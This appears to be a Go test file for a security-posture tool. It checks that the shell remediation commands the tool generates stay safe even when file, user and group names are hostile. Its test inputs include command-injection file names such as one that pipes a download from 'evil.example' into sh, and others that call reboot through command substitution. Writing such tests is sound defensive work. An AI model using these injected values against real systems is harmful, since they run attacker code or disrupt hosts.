package posture_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/pvesec/terraform-provider-pvesec/internal/node"
	"github.com/pvesec/terraform-provider-pvesec/internal/paths"
)

// TestRemediesAreHarmless: users give files their names, and people paste remedies into a shell of root. No remedy that is a command has a name that a shell acts on, in
// the graph, in the cuts and in the report.
func TestRemediesAreHarmless(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"/tmp/x;curl evil.example|sh", "/tmp/$(reboot)", "/tmp/`reboot`", "/tmp/a b", "/tmp/x&", "/tmp/~root", "/tmp/'", "/tmp/\"", "/tmp/x\ny", "/tmp/*", "/tmp/{a,b}", "/tmp/#x", "/tmp/x\\y", "/tmp/!!", "/tmp/ä"} {
		record := "F 4755 0 0 9 " + name + "\x00" + "F 2755 1000 1000 9 " + name + "2\x00"
		r := report(t, &fake{sections: map[string]node.Section{
			node.SectionSetID:        data(record),
			node.SectionPlaces:       data("f 666 1000 111 /etc/cron.d" + name + "\x00\x00"),
			node.SectionCapabilities: data(strings.ReplaceAll(name, "\n", "") + " cap_setuid=ep\n"),
			node.SectionPasswd:       data(passwd + "a;b:x:1007:1007::/home/ab:/bin/bash\n"), node.SectionPasswords: data("a;b NP\n"),
			node.SectionGroup: data(group + "c;d:x:1008:a;b\ndisk:x:6:a;b\n"),
		}})
		commands := 0
		for _, s := range r.Graph.Steps() {
			if command(s) {
				commands++
				if !regexp.MustCompile(`^[a-z]+( [A-Za-z0-9._/@%+-]+)*$`).MatchString(s.Remedy) {
					t.Errorf("%q: the remedy is %q", name, s.Remedy)
				}
			}
			if s.Remedy == "" && s.Way != "local" {
				t.Errorf("no remedy: %+v", s)
			}
		}
		if len(r.Paths) == 0 || commands == 0 {
			t.Errorf("%q: %d paths, %d commands", name, len(r.Paths), commands)
		}
	}
	harmless := report(t, &fake{sections: map[string]node.Section{node.SectionSetID: data("F 4755 0 0 9 /opt/my-tool_1.2\x00")}})
	if got := harmless.Paths[0].Steps[len(harmless.Paths[0].Steps)-1].Remedy; got != "chmod u-s -- /opt/my-tool_1.2" {
		t.Errorf("the remedy of a harmless name is %q", got)
	}
}

// command tells whether a remedy is a command line: what is in words begins with a capital letter.
func command(s paths.Step) bool {
	return s.Remedy != "" && (s.Remedy[0] < 'A' || s.Remedy[0] > 'Z')
}
